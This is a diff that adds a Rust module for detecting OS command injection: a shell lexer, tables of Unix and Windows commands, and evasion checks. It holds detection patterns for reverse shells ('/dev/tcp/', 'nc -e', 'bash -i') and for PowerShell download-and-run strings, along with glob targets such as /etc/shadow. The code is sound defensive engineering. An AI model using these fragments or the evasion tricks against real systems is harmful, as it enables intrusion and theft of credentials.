@@ -1,0 +1,1304 @@
+//! OS command injection. A shell lexer (POSIX sh with the Windows cmd and
+//! PowerShell spellings that matter) splits the value into words and
+//! operators the way the shell would: quotes and backslashes join a word
+//! (`c''at`, `w"h"oami`, `c\at` are `cat`, `whoami`), `${IFS}`, `$IFS$9` and
+//! positional expansions are blanks, `{cat,/etc/passwd}` is brace expansion,
+//! `^` is cmd's escape. A word in command position (start of the value, after
+//! `;` `|` `&` `&&` `||` a newline, inside `$( )` or backticks) is looked up
+//! in a table of commands; words that are also English ("cat", "more",
+//! "sleep") count only with shell-shaped arguments (flags, paths,
+//! redirections), so "cat food & dog toys" and "rm 101 key" pass.
+//!
+//! Never backtracks: one lexing pass, bounded look-ahead per command.
+
+use crate::Sink;
+use crate::rules;
+
+const MAX_WORDS: usize = 1024;
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Op {
+    Separator,
+    Pipe,
+    Background,
+    SubstOpen,
+    Backtick,
+    Close,
+    Redirect,
+    BraceOpen,
+}
+
+#[derive(Debug)]
+enum Piece {
+    Word {
+        start: usize,
+        end: usize,
+        text_start: usize,
+        text_end: usize,
+        evasive: bool,
+        glob: bool,
+    },
+    Op(Op),
+}
+
+/// Command table: name → (ambiguous English word?, Windows-only?), built
+/// once from the lists below.
+fn command(name: &str) -> Option<(bool, bool)> {
+    static TABLE: std::sync::OnceLock<std::collections::HashMap<&'static str, (bool, bool)>> =
+        std::sync::OnceLock::new();
+    if name.is_empty() || name.len() > 20 {
+        return None;
+    }
+    TABLE.get_or_init(command_table).get(name).copied()
+}
+
+fn command_table() -> std::collections::HashMap<&'static str, (bool, bool)> {
+    ALL_COMMANDS
+        .iter()
+        .filter_map(|name| command_uncached(name).map(|v| (*name, v)))
+        .collect()
+}
+
+const ALL_COMMANDS: &[&str] = &[
+    "whoami",
+    "uname",
+    "ifconfig",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "csh",
+    "tcsh",
+    "dash",
+    "busybox",
+    "perl",
+    "python",
+    "python2",
+    "python3",
+    "php",
+    "ruby",
+    "lua",
+    "telnet",
+    "ssh",
+    "scp",
+    "rsync",
+    "tftp",
+    "chmod",
+    "chown",
+    "chgrp",
+    "passwd",
+    "useradd",
+    "usermod",
+    "sudo",
+    "crontab",
+    "nohup",
+    "nslookup",
+    "traceroute",
+    "netstat",
+    "lsof",
+    "pwd",
+    "ls",
+    "printf",
+    "killall",
+    "pkill",
+    "mkdir",
+    "rmdir",
+    "grep",
+    "egrep",
+    "fgrep",
+    "awk",
+    "gawk",
+    "sed",
+    "xargs",
+    "base64",
+    "xxd",
+    "hexdump",
+    "uniq",
+    "wc",
+    "gzip",
+    "gunzip",
+    "bzip2",
+    "tar",
+    "unzip",
+    "whereis",
+    "uptime",
+    "hostname",
+    "iptables",
+    "nmap",
+    "tcpdump",
+    "openssl",
+    "gcc",
+    "systemctl",
+    "mkfifo",
+    "socat",
+    "chattr",
+    "lsattr",
+    "getent",
+    "ldd",
+    "strings",
+    "objdump",
+    "readelf",
+    "dig",
+    "nproc",
+    "lscpu",
+    "lsblk",
+    "dmesg",
+    "journalctl",
+    "ifup",
+    "ip",
+    "arp",
+    "route",
+    "mknod",
+    "timeout",
+    "wall",
+    "shred",
+    "install",
+    "vi",
+    "vim",
+    "nano",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "certutil",
+    "bitsadmin",
+    "wmic",
+    "systeminfo",
+    "tasklist",
+    "taskkill",
+    "mshta",
+    "rundll32",
+    "regsvr32",
+    "cscript",
+    "wscript",
+    "schtasks",
+    "msiexec",
+    "nltest",
+    "dsquery",
+    "vssadmin",
+    "bcdedit",
+    "icacls",
+    "cacls",
+    "ipconfig",
+    "tracert",
+    "net1",
+    "query",
+    "qwinsta",
+    "findstr",
+    "cmdkey",
+    "iwr",
+    "iwmi",
+    "gwmi",
+    "irm",
+    "iex",
+    "icm",
+    "saps",
+    "invoke-webrequest",
+    "invoke-expression",
+    "start-process",
+    "netsh",
+    "sysinfo",
+    "whoami.exe",
+    "forfiles",
+    "xcopy",
+    "robocopy",
+    "bash.exe",
+    "cmd.exe",
+    "cat",
+    "id",
+    "echo",
+    "env",
+    "sleep",
+    "ping",
+    "kill",
+    "rm",
+    "cp",
+    "mv",
+    "touch",
+    "ln",
+    "find",
+    "head",
+    "tail",
+    "more",
+    "less",
+    "sort",
+    "tee",
+    "tr",
+    "cut",
+    "dd",
+    "file",
+    "stat",
+    "which",
+    "who",
+    "w",
+    "last",
+    "date",
+    "history",
+    "set",
+    "alias",
+    "eval",
+    "exec",
+    "source",
+    "shutdown",
+    "reboot",
+    "halt",
+    "service",
+    "java",
+    "make",
+    "git",
+    "ps",
+    "top",
+    "du",
+    "df",
+    "su",
+    "mount",
+    "nice",
+    "time",
+    "wait",
+    "test",
+    "export",
+    "unset",
+    "read",
+    "chroot",
+    "locate",
+    "od",
+    "rev",
+    "nl",
+    "fold",
+    "split",
+    "paste",
+    "join",
+    "expand",
+    "tac",
+    "base32",
+    "host",
+    "whois",
+    "ftp",
+    "node",
+    "zip",
+    "yes",
+    "xterm",
+    "type",
+    "dir",
+    "copy",
+    "del",
+    "net",
+    "reg",
+    "sc",
+    "start",
+    "ver",
+    "vol",
+    "attrib",
+    "move",
+    "ren",
+    "call",
+    "print",
+];
+
+fn command_uncached(name: &str) -> Option<(bool, bool)> {
+    let unix_clear = [
+        "whoami",
+        "uname",
+        "ifconfig",
+        "wget",
+        "curl",
+        "nc",
+        "ncat",
+        "netcat",
+        "bash",
+        "sh",
+        "zsh",
+        "ksh",
+        "csh",
+        "tcsh",
+        "dash",
+        "busybox",
+        "perl",
+        "python",
+        "python2",
+        "python3",
+        "php",
+        "ruby",
+        "lua",
+        "telnet",
+        "ssh",
+        "scp",
+        "rsync",
+        "tftp",
+        "chmod",
+        "chown",
+        "chgrp",
+        "passwd",
+        "useradd",
+        "usermod",
+        "sudo",
+        "crontab",
+        "nohup",
+        "nslookup",
+        "traceroute",
+        "netstat",
+        "lsof",
+        "pwd",
+        "ls",
+        "printf",
+        "killall",
+        "pkill",
+        "mkdir",
+        "rmdir",
+        "grep",
+        "egrep",
+        "fgrep",
+        "awk",
+        "gawk",
+        "sed",
+        "xargs",
+        "base64",
+        "xxd",
+        "hexdump",
+        "uniq",
+        "wc",
+        "gzip",
+        "gunzip",
+        "bzip2",
+        "tar",
+        "unzip",
+        "whereis",
+        "uptime",
+        "hostname",
+        "iptables",
+        "nmap",
+        "tcpdump",
+        "openssl",
+        "gcc",
+        "systemctl",
+        "mkfifo",
+        "socat",
+        "chattr",
+        "lsattr",
+        "getent",
+        "ldd",
+        "strings",
+        "objdump",
+        "readelf",
+        "dig",
+        "nproc",
+        "lscpu",
+        "lsblk",
+        "dmesg",
+        "journalctl",
+        "useradd",
+        "ifup",
+        "ip",
+        "arp",
+        "route",
+        "mknod",
+        "timeout",
+        "wall",
+        "shred",
+        "install",
+        "vi",
+        "vim",
+        "nano",
+        "powershell",
+        "pwsh",
+        "cmd",
+        "certutil",
+        "bitsadmin",
+        "wmic",
+        "systeminfo",
+        "tasklist",
+        "taskkill",
+        "mshta",
+        "rundll32",
+        "regsvr32",
+        "cscript",
+        "wscript",
+        "schtasks",
+        "msiexec",
+        "nltest",
+        "dsquery",
+        "vssadmin",
+        "bcdedit",
+        "icacls",
+        "cacls",
+        "ipconfig",
+        "tracert",
+        "net1",
+        "query",
+        "qwinsta",
+        "findstr",
+        "cmdkey",
+        "iwr",
+        "iwmi",
+        "gwmi",
+        "irm",
+        "iex",
+        "icm",
+        "saps",
+        "invoke-webrequest",
+        "invoke-expression",
+        "start-process",
+        "netsh",
+        "sysinfo",
+        "whoami.exe",
+        "forfiles",
+        "xcopy",
+        "robocopy",
+        "bash.exe",
+        "cmd.exe",
+    ];
+    let unix_ambiguous = [
+        "cat", "id", "echo", "env", "sleep", "ping", "kill", "rm", "cp", "mv", "touch", "ln",
+        "find", "head", "tail", "more", "less", "sort", "tee", "tr", "cut", "dd", "file", "stat",
+        "which", "who", "w", "last", "date", "history", "set", "alias", "eval", "exec", "source",
+        "shutdown", "reboot", "halt", "service", "java", "make", "git", "ps", "top", "du", "df",
+        "su", "mount", "nice", "time", "wait", "test", "export", "unset", "read", "chroot",
+        "locate", "od", "rev", "nl", "fold", "split", "paste", "join", "expand", "tac", "base32",
+        "host", "whois", "ftp", "node", "zip", "yes", "xterm",
+    ];
+    let windows_ambiguous = [
+        "type", "dir", "copy", "del", "net", "reg", "sc", "start", "ver", "vol", "attrib", "move",
+        "ren", "call", "print",
+    ];
+    if unix_clear.contains(&name) {
+        let windows = matches!(
+            name,
+            "cmd"
+                | "certutil"
+                | "bitsadmin"
+                | "wmic"
+                | "systeminfo"
+                | "tasklist"
+                | "taskkill"
+                | "mshta"
+                | "rundll32"
+                | "regsvr32"
+                | "cscript"
+                | "wscript"
+                | "schtasks"
+                | "msiexec"
+                | "nltest"
+                | "dsquery"
+                | "vssadmin"
+                | "bcdedit"
+                | "icacls"
+                | "cacls"
+                | "ipconfig"
+                | "tracert"
+                | "net1"
+                | "qwinsta"
+                | "findstr"
+                | "cmdkey"
+                | "iwr"
+                | "iwmi"
+                | "gwmi"
+                | "irm"
+                | "iex"
+                | "icm"
+                | "saps"
+                | "invoke-webrequest"
+                | "invoke-expression"
+                | "start-process"
+                | "netsh"
+                | "forfiles"
+                | "xcopy"
+                | "robocopy"
+                | "cmd.exe"
+                | "whoami.exe"
+        );
+        return Some((false, windows));
+    }
+    if unix_ambiguous.contains(&name) {
+        return Some((true, false));
+    }
+    if windows_ambiguous.contains(&name) {
+        return Some((true, true));
+    }
+    None
+}
+
+/// Whether the first word of `lower` is a known command (a cheap test for
+/// plain-text values).
+pub(crate) fn starts_with_command(lower: &str) -> bool {
+    let first = lower.trim_start().split([' ', '\t']).next().unwrap_or("");
+    let base = first.rsplit(['/', '\\']).next().unwrap_or(first);
+    command(base.strip_suffix(".exe").unwrap_or(base)).is_some()
+}
+
+/// Commands that probe the host with no arguments at all (`;id`, `|ls`).
+fn is_probe(name: &str) -> bool {
+    matches!(
+        name,
+        "id" | "ls"
+            | "pwd"
+            | "whoami"
+            | "uname"
+            | "ifconfig"
+            | "ipconfig"
+            | "hostname"
+            | "env"
+            | "ps"
+            | "netstat"
+            | "systeminfo"
+            | "ver"
+            | "set"
+            | "dir"
+            | "w"
+            | "who"
+            | "uptime"
+            | "tasklist"
+            | "sleep"
+            | "ping"
+            | "printenv"
+            | "getuid"
+    )
+}
+
+struct Lexed {
+    pieces: Vec<Piece>,
+    text: String,
+}
+
+/// Lexes `lower` into words (their shell value is in `text`) and operators.
+fn lex(lower: &str, out: &mut Lexed) {
+    out.pieces.clear();
+    out.text.clear();
+    let s = lower.as_bytes();
+    let mut i = 0;
+    while i < s.len() && out.pieces.len() < MAX_WORDS {
+        let b = s[i];
+        match b {
+            b' ' | b'\t' | b'\r' | 0x0b | 0x0c => i += 1,
+            b'\n' | b';' => {
+                out.pieces.push(Piece::Op(Op::Separator));
+                i += 1;
+            }
+            // A literal `\n` that a later unescaping turns into a newline.
+            b'\\'
+                if s.get(i + 1) == Some(&b'n')
+                    && !s.get(i + 2).is_some_and(|c| {
+                        c.is_ascii_lowercase()
+                            && !matches!(
+                                c,
+                                b'c' | b'i' | b'l' | b'p' | b'u' | b'w' | b'n' | b'e' | b'b' | b's'
+                            )
+                    }) =>
+            {
+                out.pieces.push(Piece::Op(Op::Separator));
+                i += 2;
+            }
+            b'|' => {
+                let n = if s.get(i + 1) == Some(&b'|') { 2 } else { 1 };
+                out.pieces
+                    .push(Piece::Op(if n == 2 { Op::Separator } else { Op::Pipe }));
+                i += n;
+            }
+            b'&' => {
+                if s.get(i + 1) == Some(&b'&') {
+                    out.pieces.push(Piece::Op(Op::Separator));
+                    i += 2;
+                } else if s.get(i + 1) == Some(&b'>') {
+                    out.pieces.push(Piece::Op(Op::Redirect));
+                    i += 2;
+                } else {
+                    out.pieces.push(Piece::Op(Op::Background));
+                    i += 1;
+                }
+            }
+            b'`' => {
+                out.pieces.push(Piece::Op(Op::Backtick));
+                i += 1;
+            }
+            b'$' if s.get(i + 1) == Some(&b'(') => {
+                out.pieces.push(Piece::Op(Op::SubstOpen));
+                i += 2;
+            }
+            b'(' if i == 0 || matches!(s[i - 1], b' ' | b';' | b'|' | b'&') => {
+                out.pieces.push(Piece::Op(Op::SubstOpen));
+                i += 1;
+            }
+            b')' => {
+                out.pieces.push(Piece::Op(Op::Close));
+                i += 1;
+            }
+            b'<' | b'>' if s.get(i + 1) == Some(&b'(') => {
+                out.pieces.push(Piece::Op(Op::SubstOpen));
+                i += 2;
+            }
+            b'<' | b'>' => {
+                let mut n = 1;
+                while matches!(s.get(i + n), Some(b'>' | b'&' | b'(')) && n < 3 {
+                    n += 1;
+                }
+                out.pieces.push(Piece::Op(Op::Redirect));
+                i += n;
+            }
+            b'{' if s.get(i + 1).is_none_or(|c| *c != b'}')
+                && memchr::memchr(b',', &s[i..(i + 256).min(s.len())]).is_some()
+                && (i == 0 || !matches!(s[i - 1], b'$')) =>
+            {
+                out.pieces.push(Piece::Op(Op::BraceOpen));
+                i += 1;
+            }
+            _ => {
+                i = lex_word(s, i, out);
+            }
+        }
+    }
+}
+
+/// One shell word starting at `i`; returns where it ends.
+fn lex_word(s: &[u8], mut i: usize, out: &mut Lexed) -> usize {
+    let start = i;
+    let text_start = out.text.len();
+    let mut evasive = false;
+    let mut glob = false;
+    let mut letters_before_quote = false;
+    while i < s.len() {
+        let b = s[i];
+        match b {
+            b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'<' | b'>' | b'`' | b')'
+            | 0x0b | 0x0c => break,
+            b'(' if i > start => break,
+            b',' | b'}'
+                if out
+                    .pieces
+                    .iter()
+                    .rev()
+                    .any(|p| matches!(p, Piece::Op(Op::BraceOpen))) =>
+            {
+                i += 1;
+                break;
+            }
+            b'\'' | b'"' => {
+                let close = memchr::memchr(b, &s[i + 1..]).map(|p| i + 1 + p);
+                let Some(close) = close else {
+                    i += 1;
+                    continue;
+                };
+                let inner = &s[i + 1..close];
+                if letters_before_quote || s.get(close + 1).is_some_and(u8::is_ascii_alphanumeric) {
+                    evasive = true;
+                }
+                out.text.push_str(std::str::from_utf8(inner).unwrap_or(""));
+                i = close + 1;
+            }
+            b'\\' if s.get(start + 1) == Some(&b':') || s[start] == b'\\' || s[start] == b'%' => {
+                // A Windows path (`c:\windows`, `\\host\share`): backslashes are separators.
+                out.text.push('\\');
+                i += 1;
+            }
+            // A literal `\n` (a later unescaping makes it a newline) ends the word.
+            b'\\'
+                if s.get(i + 1) == Some(&b'n')
+                    && !s.get(i + 2).is_some_and(u8::is_ascii_alphanumeric) =>
+            {
+                break;
+            }
+            b'\\' => {
+                if let Some(&n) = s.get(i + 1) {
+                    if n.is_ascii_alphanumeric() && i > start {
+                        evasive = true;
+                    }
+                    if n.is_ascii_alphanumeric() || !(n as char).is_whitespace() {
+                        out.text.push(n as char);
+                    }
+                }
+                i += 2;
+            }
+            b'^' if s.get(i + 1).is_some_and(u8::is_ascii_alphanumeric) => {
+                evasive = true;
+                i += 1;
+            }
+            b'$' => {
+                // `${IFS}`, `$IFS`, `$@`, `$1`: blanks or nothing to the shell.
+                let rest = &s[i + 1..(i + 33).min(s.len())];
+                let skip = if rest.starts_with(b"{ifs") {
+                    memchr::memchr(b'}', rest).map(|p| p + 2)
+                } else if rest.starts_with(b"ifs") {
+                    Some(4)
+                } else if rest
+                    .first()
+                    .is_some_and(|c| matches!(c, b'@' | b'*' | b'0'..=b'9'))
+                {
+                    Some(2)
+                } else if rest.starts_with(b"{") {
+                    memchr::memchr(b'}', rest)
+                        .filter(|p| *p < 32)
+                        .map(|p| p + 2)
+                } else {
+                    None
+                };
+                match skip {
+                    Some(n) => {
+                        evasive = true;
+                        let blank = rest.starts_with(b"{ifs") || rest.starts_with(b"ifs");
+                        i += n;
+                        if blank {
+                            break;
+                        }
+                    }
+                    None if rest.first() == Some(&b'(') => break,
+                    None => {
+                        out.text.push('$');
+                        i += 1;
+                    }
+                }
+            }
+            b'?' | b'*' | b'[' => {
+                glob = true;
+                out.text.push(b as char);
+                i += 1;
+            }
+            _ => {
+                letters_before_quote = b.is_ascii_alphanumeric();
+                let ch_len = utf8_len(b);
+                let end = (i + ch_len).min(s.len());
+                out.text
+                    .push_str(std::str::from_utf8(&s[i..end]).unwrap_or(""));
+                i = end;
+            }
+        }
+    }
+    if i == start {
+        i += 1;
+    }
+    out.pieces.push(Piece::Word {
+        start,
+        end: i,
+        text_start,
+        text_end: out.text.len(),
+        evasive,
+        glob,
+    });
+    i
+}
+
+fn utf8_len(b: u8) -> usize {
+    match b {
+        0xC0..=0xDF => 2,
+        0xE0..=0xEF => 3,
+        0xF0..=0xF7 => 4,
+        _ => 1,
+    }
+}
+
+#[derive(Default)]
+pub(crate) struct ShellScratch {
+    lexed: Option<Lexed>,
+}
+
+/// Inspects `lower` (the lower-cased normalized value).
+pub(crate) fn inspect(lower: &str, scratch: &mut ShellScratch, sink: &mut Sink<'_>) {
+    reverse_shells(lower, sink);
+    powershell(lower, sink);
+    commands(lower, scratch, sink);
+    // The value may land inside a quoted argument: what follows its first
+    // quote is then shell syntax again (`';id;'`, `"|id|"`).
+    for quote in ['\'', '"'] {
+        if let Some(p) = lower.find(quote) {
+            commands(&lower[p + 1..], scratch, sink);
+        }
+    }
+    // cmd's FOR loop runs a command per item: `for /f %v in (...) do ...`.
+    if let Some(p) = crate::text::find(lower, "for /")
+        && let Some(rest) = lower.get(p + 5..)
+        && rest.starts_with(['l', 'f', 'd', 'r'])
+        && crate::text::contains(rest, " in (")
+        && crate::text::contains(rest, " do ")
+    {
+        sink.report(
+            &rules::RCE_WINDOWS_COMMAND,
+            lower,
+            p..(p + 32).min(lower.len()),
+        );
+    }
+    for var in ["%comspec%", "%systemroot%", "%windir%", "%programfiles%"] {
+        if let Some(p) = crate::text::find(lower, var) {
+            sink.report(&rules::RCE_WINDOWS_COMMAND, lower, p..p + var.len());
+        }
+    }
+}
+
+fn commands(lower: &str, scratch: &mut ShellScratch, sink: &mut Sink<'_>) {
+    let lexed = scratch.lexed.get_or_insert_with(|| Lexed {
+        pieces: Vec::new(),
+        text: String::new(),
+    });
+    lex(lower, lexed);
+    let pieces = &lexed.pieces;
+    let word_text = |p: &Piece| match p {
+        Piece::Word {
+            text_start,
+            text_end,
+            ..
+        } => &lexed.text[*text_start..*text_end],
+        Piece::Op(_) => "",
+    };
+    let mut after: Option<Op> = None;
+    let mut at_start = true;
+    let mut substitutions_open = 0usize;
+    for (idx, piece) in pieces.iter().enumerate() {
+        match piece {
+            Piece::Op(op) => {
+                match op {
+                    Op::SubstOpen => substitutions_open += 1,
+                    Op::Backtick => substitutions_open = (substitutions_open + 1) % 2,
+                    Op::Close => substitutions_open = substitutions_open.saturating_sub(1),
+                    _ => {}
+                }
+                if *op != Op::Redirect && *op != Op::Close {
+                    after = Some(*op);
+                    at_start = false;
+                }
+                continue;
+            }
+            Piece::Word {
+                start,
+                end,
+                evasive,
+                glob,
+                ..
+            } => {
+                let position = if at_start { None } else { after };
+                let in_command_position = at_start || after.is_some();
+                after = None;
+                if !in_command_position {
+                    at_start = false;
+                    continue;
+                }
+                let leading = at_start;
+                at_start = false;
+                let word = word_text(piece);
+                // A URL is an argument, never a command (`file:///etc/passwd`).
+                if crate::text::contains(word, "://") {
+                    continue;
+                }
+                let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
+                let base = base.strip_suffix(".exe").unwrap_or(base);
+                let known = command(base);
+                let args: Vec<&Piece> = pieces[idx + 1..]
+                    .iter()
+                    .take_while(|p| {
+                        matches!(p, Piece::Word { .. }) || matches!(p, Piece::Op(Op::Redirect))
+                    })
+                    .take(8)
+                    .collect();
+                let next = pieces.get(idx + 1);
+                let shell_args = args.iter().any(|p| match p {
+                    Piece::Op(Op::Redirect) => true,
+                    Piece::Word { .. } => shell_shaped(word_text(p), base),
+                    _ => false,
+                });
+                let span = *start..(*end + 24).min(lower.len());
+                let path_like = word.starts_with('/') || crate::text::contains(word, ":\\");
+                if *glob
+                    && path_like
+                    && GLOB_TARGETS
+                        .iter()
+                        .any(|t| glob_matches(word.as_bytes(), t.as_bytes()))
+                {
+                    sink.report(&rules::RCE_EVASION, lower, span.clone());
+                    continue;
+                }
+                if (word.starts_with("/bin/")
+                    || word.starts_with("/usr/bin/")
+                    || word.starts_with("/sbin/")
+                    || word.starts_with("/usr/sbin/")
+                    || word.starts_with("/usr/local/bin/"))
+                    && known.is_some()
+                    && (!leading || !args.is_empty())
+                {
+                    sink.report(&rules::RCE_SHELL_PATH, lower, span.clone());
+                }
+                let Some((ambiguous, windows)) = known else {
+                    continue;
+                };
+                if *evasive {
+                    sink.report(&rules::RCE_EVASION, lower, span.clone());
+                    continue;
+                }
+                let ends_here = match next {
+                    None => true,
+                    Some(Piece::Op(op)) => *op != Op::Redirect,
+                    _ => false,
+                };
+                match position {
+                    Some(Op::BraceOpen) => {
+                        sink.report(&rules::RCE_EVASION, lower, span.clone());
+                    }
+                    Some(Op::SubstOpen) | Some(Op::Backtick) => {
+                        let strong_context = matches!(position, Some(Op::SubstOpen))
+                            || backtick_in_code(lower, *start);
+                        if strong_context && (!ambiguous || shell_args || ends_here) {
+                            sink.report(&rules::RCE_SUBSTITUTION, lower, span.clone());
+                        }
+                    }
+                    Some(sep) => {
+                        let probe_alone =
+                            ends_here && is_probe(base) && !table_cell(lower, *start, *end, sep);
+                        // `; sleep 10`: a timing probe after a separator.
+                        let timed = matches!(base, "sleep" | "timeout")
+                            && args.len() == 1
+                            && matches!(args[0], Piece::Word { .. })
+                            && word_text(args[0]).bytes().all(|c| c.is_ascii_digit());
+                        if (!ambiguous && (shell_args || ends_here || !args.is_empty()))
+                            || shell_args
+                            || probe_alone
+                            || timed
+                        {
+                            let rule = if windows {
+                                &rules::RCE_WINDOWS_COMMAND
+                            } else {
+                                &rules::RCE_COMMAND_CHAIN
+                            };
+                            sink.report(rule, lower, span.clone());
+                        }
+                    }
+                    None if leading => {
+                        let first_shaped = match args.first() {
+                            Some(Piece::Op(Op::Redirect)) => true,
+                            Some(p @ Piece::Word { .. }) => shell_shaped(word_text(p), base),
+                            _ => false,
+                        };
+                        // `sleep 5` as the whole value: a timing probe.
+                        let timing_probe = matches!(base, "sleep" | "timeout")
+                            && args.len() == 1
+                            && matches!(args[0], Piece::Word { .. })
+                            && word_text(args[0]).bytes().all(|c| c.is_ascii_digit())
+                            && pieces.len() == idx + 2;
+                        if first_shaped || timing_probe {
+                            let rule = if windows {
+                                &rules::RCE_WINDOWS_COMMAND
+                            } else {
+                                &rules::RCE_UNIX_COMMAND
+                            };
+                            sink.report(rule, lower, span.clone());
+                        } else if !ambiguous && args.is_empty() {
+                            sink.report(&rules::RCE_BARE_COMMAND, lower, span.clone());
+                        }
+                    }
+                    None => {}
+                }
+            }
+        }
+    }
+}
+
+/// Binaries and files that globbed paths (`/???/c?t`, `/etc/pas[s]wd`) are
+/// written to reach without spelling them.
+const GLOB_TARGETS: &[&str] = &[
+    "/bin/cat",
+    "/bin/sh",
+    "/bin/bash",
+    "/bin/nc",
+    "/bin/ls",
+    "/bin/netcat",
+    "/bin/busybox",
+    "/bin/dash",
+    "/usr/bin/id",
+    "/usr/bin/whoami",
+    "/usr/bin/wget",
+    "/usr/bin/curl",
+    "/usr/bin/uname",
+    "/usr/bin/nc",
+    "/usr/bin/python",
+    "/usr/bin/python3",
+    "/usr/bin/perl",
+    "/usr/bin/cat",
+    "/usr/bin/env",
+    "/etc/passwd",
+    "/etc/shadow",
+    "/etc/hosts",
+    "/etc/group",
+    "/etc/issue",
+    "/bin/id",
+    "/bin/uname",
+    "/usr/bin/base64",
+];
+
+/// Shell glob matching (`?`, `*`, `[...]` with ranges and `!`/`^`) of a short
+/// pattern against a short path: bounded by both lengths.
+fn glob_matches(pattern: &[u8], text: &[u8]) -> bool {
+    if pattern.len() > 64 {
+        return false;
+    }
+    match pattern.first() {
+        None => text.is_empty(),
+        Some(b'*') => (0..=text.len()).any(|k| glob_matches(&pattern[1..], &text[k..])),
+        Some(b'?') => !text.is_empty() && glob_matches(&pattern[1..], &text[1..]),
+        Some(b'[') => {
+            let Some(close) = pattern
+                .iter()
+                .skip(2)
+                .position(|b| *b == b']')
+                .map(|p| p + 2)
+            else {
+                return text.first() == Some(&b'[') && glob_matches(&pattern[1..], &text[1..]);
+            };
+            let Some(&c) = text.first() else { return false };
+            let mut set = &pattern[1..close];
+            let negate = matches!(set.first(), Some(b'!' | b'^'));
+            if negate {
+                set = &set[1..];
+            }
+            let mut hit = false;
+            let mut k = 0;
+            while k < set.len() {
+                if k + 2 < set.len() && set[k + 1] == b'-' {
+                    hit |= (set[k]..=set[k + 2]).contains(&c);
+                    k += 3;
+                } else {
+                    hit |= set[k] == c;
+                    k += 1;
+                }
+            }
+            hit != negate && glob_matches(&pattern[close + 1..], &text[1..])
+        }
+        Some(&p) => text.first() == Some(&p) && glob_matches(&pattern[1..], &text[1..]),
+    }
+}
+
+/// Arguments a shell command gets and prose does not.
+fn shell_shaped(arg: &str, command: &str) -> bool {
+    let b = arg.as_bytes();
+    match b.first() {
+        None => false,
+        // `-la`, `-e`, `--help`; a long single-dash word is a search operator (`-free`).
+        Some(b'-') => {
+            b.get(1)
+                .is_some_and(|c| *c == b'-' && b.len() > 3 && b[2].is_ascii_alphabetic())
+                || (b.len() <= 5 && b.get(1).is_some_and(u8::is_ascii_alphanumeric))
+        }
+        Some(b'/') => {
+            b.len() > 1
+                && (command == "dir"
+                    || b[1].is_ascii_alphanumeric()
+                    || b[1] == b'.'
+                    || b[1] == b'?')
+        }
+        Some(b'~' | b'$' | b'\\') => true,
+        Some(b'.') => arg.starts_with("./") || arg.starts_with("../") || arg.starts_with(".\\"),
+        _ => {
+            (arg.contains('/') && !arg.starts_with("http") && arg.split('/').count() > 2)
+                || (arg.len() > 2
+                    && arg.as_bytes()[1] == b':'
+                    && matches!(arg.as_bytes()[2], b'\\' | b'/'))
+                || arg.contains('\\')
+                || arg.starts_with("http://")
+                || arg.starts_with("https://")
+                || (command == "net"
+                    && matches!(
+                        arg,
+                        "user"
+                            | "users"
+                            | "localgroup"
+                            | "view"
+                            | "share"
+                            | "use"
+                            | "group"
+                            | "session"
+                            | "accounts"
+                            | "start"
+                            | "stop"
+                    ))
+                || (command == "reg"
+                    && matches!(arg, "query" | "add" | "delete" | "save" | "export"))
+                || (command == "sc"
+                    && matches!(arg, "query" | "create" | "config" | "start" | "stop"))
+                || (command == "which" && self::command(arg).is_some())
+                || is_ipv4_literal(arg)
+        }
+    }
+}
+
+fn is_ipv4_literal(s: &str) -> bool {
+    let parts: Vec<&str> = s.split('.').collect();
+    parts.len() == 4
+        && parts
+            .iter()
+            .all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|c| c.is_ascii_digit()))
+}
+
+/// A backtick that opens shell code rather than a Markdown code span: right
+/// after a shell character, or at the very start of the value.
+fn backtick_in_code(lower: &str, word_start: usize) -> bool {
+    let s = lower.as_bytes();
+    let Some(tick) = s[..word_start].iter().rposition(|b| *b == b'`') else {
+        return true;
+    };
+    if tick == 0 {
+        return true;
+    }
+    matches!(
+        s[tick - 1],
+        b';' | b'=' | b'\'' | b'"' | b'(' | b'|' | b'&' | b'$' | b'>' | b'<' | b'{' | b',' | b'`'
+    )
+}
+
+/// `| id |` in a Markdown table: a word between pipes with spaces around.
+fn table_cell(lower: &str, start: usize, end: usize, sep: Op) -> bool {
+    if sep != Op::Pipe {
+        return false;
+    }
+    let s = lower.as_bytes();
+    let before_space = start > 0 && s[start - 1] == b' ';
+    let after_space = s.get(end) == Some(&b' ');
+    before_space && after_space
+}
+
+fn reverse_shells(lower: &str, sink: &mut Sink<'_>) {
+    static NEEDLES_1: crate::text::NeedleSet = crate::text::NeedleSet::new(&[
+        "/dev/tcp/",
+        "/dev/udp/",
+        "bash -i",
+        "sh -i",
+        "nc -e",
+        "nc -c",
+        "ncat -e",
+        "nc.traditional",
+        "mkfifo /tmp",
+        "socket(s,pf_inet",
+        "fsockopen(",
+        "pty.spawn(",
+        "0<&196",
+        "exec 5<>",
+        "-e /bin/sh",
+        "-e /bin/bash",
+        "-e cmd.exe",
+        "socket.socket(",
+        "tcpsocket.new(",
+        "tcpsocket.open(",
+        "new socket(",
+        "lvnp ",
+        "-lvp ",
+        "-lvvp ",
+    ]);
+    if let Some((p, needle)) = NEEDLES_1.find_iter(lower).next() {
+        sink.report(
+            &rules::RCE_REVERSE_SHELL,
+            lower,
+            p..(p + needle.len() + 16).min(lower.len()),
+        );
+    }
+}
+
+fn powershell(lower: &str, sink: &mut Sink<'_>) {
+    if !lower.contains('-')
+        && !crate::text::contains(lower, "::")
+        && !crate::text::contains(lower, "iex")
+        && !lower.contains('(')
+    {
+        return;
+    }
+    static NEEDLES_2: crate::text::NeedleSet = crate::text::NeedleSet::new(&[
+        "invoke-expression",
+        "invoke-webrequest",
+        "invoke-restmethod",
+        "invoke-command",
+        "invoke-mimikatz",
+        "invoke-shellcode",
+        "downloadstring(",
+        "downloadfile(",
+        "downloaddata(",
+        "net.webclient",
+        "-encodedcommand",
+        "-executionpolicy bypass",
+        "-exec bypass",
+        "-ep bypass",
+        "-windowstyle hidden",
+        "-w hidden",
+        "-nop ",
+        "start-process",
+        "frombase64string(",
+        "set-mppreference",
+        "new-object system.",
+        "new-object io.",
+        "get-wmiobject",
+        "[system.diagnostics.process]",
+        "[diagnostics.process]",
+        "iex(",
+        "iex (",
+        "| iex",
